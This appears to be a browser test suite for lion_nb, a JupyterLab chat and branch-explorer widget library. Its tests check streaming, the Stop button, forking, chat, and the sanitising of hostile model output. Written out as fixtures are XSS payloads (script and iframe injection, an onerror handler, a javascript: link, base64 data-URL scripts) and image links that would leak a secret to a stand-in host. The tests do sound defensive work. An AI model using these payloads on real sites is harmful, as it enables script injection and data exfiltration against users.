"""The widgets in a real JupyterLab (and Notebook 7), driven in Chromium.

A ``%%lion`` turn streams into its live view progressively; Stop ends a silent run and the
kernel then answers; the explorer lists the branches and a fork made from a message; typing
into a `Chat` gets an answer; hostile model output shown by every widget runs nothing; and
no request leaves 127.0.0.1. Screenshots are kept (``tests/browser/screenshots/``).
"""

from __future__ import annotations

import re
import time

import pytest

from tests.browser.a11y import axe_violations, text_contrast, unnamed_controls
from tests.browser.jupyter import (
    cell_output,
    new_notebook,
    open_notebook,
    run_all,
    run_cell,
    screenshot,
    wait_for_idle,
)
from tests.waiting import wait_until

pytestmark = pytest.mark.browser

SETUP = """\
%load_ext lion_nb
import asyncio
from lion_nb import Branch, Session, iModel
from lion_nb.widgets import BranchView, Chat, SessionExplorer, SignalLog
"""

WORDS = 60
STORY = f"""\
story = iModel(
    provider="offline",
    model="scripted",
    responses=[" ".join(f"word{{i}}" for i in range({WORDS}))],
    delay=0.08,
)
"""

SILENT = """\
import pathlib

async def hush(messages, **request):
    pathlib.Path("hush-started").write_text("")  # the test clicks Stop once it is silent
    await asyncio.sleep(60)
    return "never"

silent = iModel(provider="offline", model="function", function=hush)
"""


def _words_shown(output) -> int:
    text = (
        output.locator(".lnb-turn-text").inner_text()
        if output.locator(".lnb-turn-text").count()
        else ""
    )
    return len(re.findall(r"word\d+", text))


def test_a_turn_streams_live_and_stop_ends_a_silent_run(lab_page, jupyter_server, page_log):
    page = lab_page
    notebook = new_notebook(
        SETUP,
        STORY,
        "%%lion -b story -m story\nTell me a long story.",
        SILENT,
        "%%lion -b quiet -m silent\nSay nothing for a minute.",
        'print("answered", 6 * 7)',
    )
    open_notebook(page, jupyter_server, "turns.ipynb", notebook)
    run_cell(page, 0)
    run_cell(page, 1)

    run_cell(page, 2, wait=False)
    turn = cell_output(page, 2)
    turn.locator(".lnb-turn").first.wait_for(timeout=30_000)
    seen: list[int] = []
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        shown = _words_shown(turn)
        if shown and (not seen or shown != seen[-1]):
            seen.append(shown)
        if turn.get_by_text(f"word{WORDS - 1}").count() and "done" in turn.inner_text():
            break
        page.wait_for_timeout(100)
    wait_for_idle(page)
    print(f"streamed word counts seen in the live view: {seen}")
    assert len(seen) >= 3 and seen == sorted(seen) and seen[0] < WORDS  # grew while streaming
    assert f"word{WORDS - 1}" in turn.inner_text()  # the answer, shown as its own output
    assert "done" in turn.locator(".lnb-turn-status").inner_text()
    screenshot(page, "lab-turn-streamed")

    started = jupyter_server.root / "hush-started"
    started.unlink(missing_ok=True)
    run_cell(page, 3)
    run_cell(page, 4, wait=False)
    quiet = cell_output(page, 4)
    stop = quiet.locator(".lnb-stop")
    stop.wait_for(state="visible", timeout=30_000)
    wait_until(started.exists, timeout=30, what="the model inside its 60 s sleep")
    clicked = time.monotonic()
    stop.click()
    quiet.locator(".lnb-turn-status", has_text="stopped").wait_for(timeout=10_000)
    stopped_after = time.monotonic() - clicked
    wait_for_idle(page)
    print(f"Stop ended the silent run {stopped_after:.2f} s after the click")
    assert stopped_after < 10  # the model would have been silent for 60 s
    assert "RunInterrupted" not in quiet.inner_text()  # Stop ends the turn, not Run All
    screenshot(page, "lab-turn-stopped")

    run_cell(page, 5)
    assert "answered 42" in cell_output(page, 5).inner_text()
    assert page_log.foreign() == []


EXPLORER = """\
trip = Branch(name="trip", system="You plan trips.", chat_model=iModel("offline/auto"))
session = Session(default_branch=trip)
await trip.communicate("Where should I go in spring?")
await trip.communicate("And what should I pack?")
explorer = SessionExplorer(session, height="24em")
explorer
"""

FORKED = """\
fork = [b for b in session.branches if b.name == "trip/fork-1"]
print("forks:", len(fork), "messages:", len(fork[0].messages) if fork else None)
"""


def test_the_explorer_lists_branches_and_forks_from_a_message(lab_page, jupyter_server):
    page = lab_page
    notebook = new_notebook(SETUP, EXPLORER, FORKED)
    open_notebook(page, jupyter_server, "explorer.ipynb", notebook)
    run_cell(page, 0)
    run_cell(page, 1)
    out = cell_output(page, 1)
    out.locator(".lnb-node-name", has_text=re.compile(r"^trip$")).wait_for(timeout=30_000)
    first_answer = out.locator('.lnb-entry.lnb-role-assistant[data-index="2"]')
    first_answer.wait_for()
    assert "Where should I go in spring?" in first_answer.inner_text()
    first_answer.locator('button[data-action="fork"]').click()
    out.locator(".lnb-node-name", has_text="trip/fork-1").wait_for(timeout=15_000)
    page.wait_for_timeout(300)
    screenshot(page, "lab-explorer", element=out)

    run_cell(page, 2)
    assert "forks: 1 messages: 3" in cell_output(page, 2).inner_text()  # system, ask, answer


RUN_EXPLORER = """\
mapped = Session()
mapped.default_branch.chat_model = iModel("offline/auto")
run = mapped.map([f"city {i}" for i in range(120)], "{item}", concurrency=8)
await run
runs_explorer = SessionExplorer(mapped, height="24em")
runs_explorer
"""


def test_the_explorer_lists_a_run_pages_its_items_and_finds_one(lab_page, jupyter_server):
    page = lab_page
    notebook = new_notebook(SETUP, RUN_EXPLORER)
    open_notebook(page, jupyter_server, "explorer-runs.ipynb", notebook)
    run_cell(page, 0)
    run_cell(page, 1)
    out = cell_output(page, 1)
    row = out.locator('.lnb-run[data-run="map-1"]')
    row.wait_for(timeout=30_000)
    assert "120 items · 120 done · 0 failed · 0 left" in row.inner_text()
    row.get_by_role("button", name="show the items of map-1").click()
    where = row.locator(".lnb-run-where")
    where.wait_for(timeout=10_000)
    assert where.inner_text() == "items 1–50 of 120"
    assert row.locator(".lnb-run-item").count() == 50
    row.get_by_role("button", name="next").click()
    row.locator('.lnb-run-item[data-index="50"]').wait_for(timeout=10_000)
    assert where.inner_text() == "items 51–100 of 120"
    row.locator('.lnb-run-item[data-index="57"]').click()
    view = out.locator(".lnb-view")
    view.get_by_text("city 57", exact=True).first.wait_for(timeout=10_000)
    out.locator(".lnb-export [role=status]", has_text="showing map-1[57]").wait_for(timeout=10_000)

    out.locator(".lnb-search").fill("city 11")
    result = out.locator(".lnb-result", has_text="map-1[110]")
    result.wait_for(timeout=10_000)
    assert "map-1[11] · item" in out.locator(".lnb-results").inner_text()
    result.click()
    view.get_by_text("city 110", exact=True).first.wait_for(timeout=10_000)
    assert unnamed_controls(page) == ([], [])
    low = [t for t in text_contrast(page) if t["ratio"] < t["need"]]
    assert low == [] and axe_violations(page) == []
    screenshot(page, "lab-explorer-runs", element=out)


CHAT = """\
helper = Branch(name="helper", system="Answer briefly.")
chat = Chat(helper)
chat
"""


def test_typing_into_chat_gets_an_answer(lab_page, jupyter_server):
    page = lab_page
    open_notebook(
        page, jupyter_server, "chat.ipynb", new_notebook(SETUP, CHAT, "len(helper.messages)")
    )
    run_cell(page, 0)
    run_cell(page, 1)
    out = cell_output(page, 1)
    box = out.locator(".lnb-chat textarea.lnb-chat-box")
    box.wait_for(timeout=30_000)
    box.fill("What is a branch?")
    box.press("Enter")
    out.locator(".lnb-entry.lnb-role-assistant").first.wait_for(timeout=20_000)
    assert "What is a branch?" in out.locator(".lnb-entry.lnb-role-assistant").first.inner_text()
    screenshot(page, "lab-chat", element=out)
    run_cell(page, 2)
    assert "3" in cell_output(page, 2).inner_text()  # system, question, answer


ATTACKS = [
    "<script>window.pwned='script'</script>",
    "<img src=x onerror=\"window.pwned='img'\">",
    "<iframe srcdoc=\"<script>parent.pwned='iframe'</script>\"></iframe>",
    "[click me](javascript:window.pwned='link')",
    "![tracker](http://198.51.100.7/t.png?k=secret)",
]

HOSTILE = f"""\
attacks = {ATTACKS!r}
evil = iModel(provider="offline", model="scripted", responses=["Answer: " + " ".join(attacks)] * 3)
target = Branch(name="evil", chat_model=evil)
hostile_session = Session(default_branch=target)
log = SignalLog(hostile_session)
await target.communicate(" ".join(attacks))
BranchView(target)
"""


def test_hostile_output_in_every_widget_runs_nothing(lab_page, jupyter_server, page_log):
    page = lab_page
    notebook = new_notebook(
        SETUP,
        HOSTILE,
        "SessionExplorer(hostile_session)",
        "log",
        "%%lion -b evil2 -m evil\nrepeat after me",
    )
    open_notebook(page, jupyter_server, "hostile.ipynb", notebook)
    run_all(page)
    for index in (1, 2, 3, 4):
        cell_output(page, index).locator(
            ".lnb-view, .lnb-explorer, .lnb-signals, .lnb-turn"
        ).first.wait_for(timeout=30_000)
    # the explorer is a box, drawn before its tree and its view: the probe reads them too
    explorer = cell_output(page, 2).locator(".lnb-explorer")
    explorer.locator(".lnb-tree-item").first.wait_for(timeout=30_000)
    explorer.locator(".lnb-view .lnb-entry").first.wait_for(timeout=30_000)
    for link in page.locator(".jp-OutputArea a").all():
        if "click me" in link.inner_text():
            link.click(no_wait_after=True)
    page.wait_for_timeout(300)
    probe = page.evaluate(
        "() => ({pwned: window.pwned ?? null, parentPwned: window.parent.pwned ?? null,"
        " scripts: document.querySelectorAll('.jp-OutputArea script, .jp-OutputArea iframe').length,"
        " images: [...document.querySelectorAll('.jp-OutputArea img')].map(i => i.src)"
        ".filter(s => !s.startsWith('data:'))})"
    )
    assert probe == {"pwned": None, "parentPwned": None, "scripts": 0, "images": []}
    assert not [url for url in page_log.requests if "198.51.100.7" in url]
    assert page_log.foreign() == []
    screenshot(page, "lab-hostile")


def test_the_branch_view_renders_in_notebook_7(lab_page, jupyter_server, page_log):
    page = lab_page
    cells = [
        SETUP,
        'b = Branch(name="n7")\nb.msgs.add_message(instruction="hello from notebook 7")\nb',
    ]
    open_notebook(page, jupyter_server, "nb7.ipynb", new_notebook(*cells), ui="notebook")
    run_all(page)
    page.locator(".lnb-view .lnb-entry", has_text="hello from notebook 7").wait_for(timeout=30_000)
    screenshot(page, "notebook7-branch-view")
    assert page_log.foreign() == []


FIGURE = """\
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
fig, ax = plt.subplots(figsize=(4, 3), dpi=50)
ax.plot([1, 3, 2])
plt.close(fig)
"""

# hostile images in model output: a data: URL that is not a raster image, an SVG that would
# run script, and an image on the web (a leak if fetched)
HOSTILE_IMAGES = (
    "![page](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==) "
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+"> '
    "![chart](http://198.51.100.7/fig.png?k=secret)"
)
PAINTER = f"""\
painter = iModel(provider="offline", model="scripted", responses=[{HOSTILE_IMAGES!r}] * 2)
"""


def test_a_turn_with_a_figure_shows_it_and_hostile_images_stay_inert(
    lab_page, jupyter_server, page_log
):
    page = lab_page
    cells = [
        SETUP,
        FIGURE,
        PAINTER,
        "%%lion -b fig -m painter\nWhat does {fig} show?",
        "from lion_nb.notebook import current_session\n"
        "BranchView(current_session().get_branch('fig'))",
    ]
    open_notebook(page, jupyter_server, "figure.ipynb", new_notebook(*cells))
    run_all(page)
    turn_image = cell_output(page, 3).locator(".lnb-turn img.lnb-attached-image")
    turn_image.wait_for(timeout=30_000)
    view_image = cell_output(page, 4).locator(".lnb-view img.lnb-attached-image")
    view_image.wait_for(timeout=30_000)
    for image in (turn_image, view_image):
        assert image.get_attribute("src").startswith("data:image/png;base64,")
        assert re.fullmatch(r"an image of \d+×\d+ pixels \(PNG\)", image.get_attribute("alt"))
        assert image.evaluate("i => i.complete && i.naturalWidth > 0")  # it decoded and drew
    page.wait_for_timeout(300)
    probe = page.evaluate(
        "() => ({pwned: window.pwned ?? null,"
        " foreign: [...document.querySelectorAll('.jp-OutputArea img')].map(i => i.src)"
        ".filter(s => !s.startsWith('data:image/png;base64,'))})"
    )
    assert probe == {"pwned": None, "foreign": []}
    assert not [url for url in page_log.requests if "198.51.100.7" in url]
    assert page_log.foreign() == []
    screenshot(page, "lab-figure")
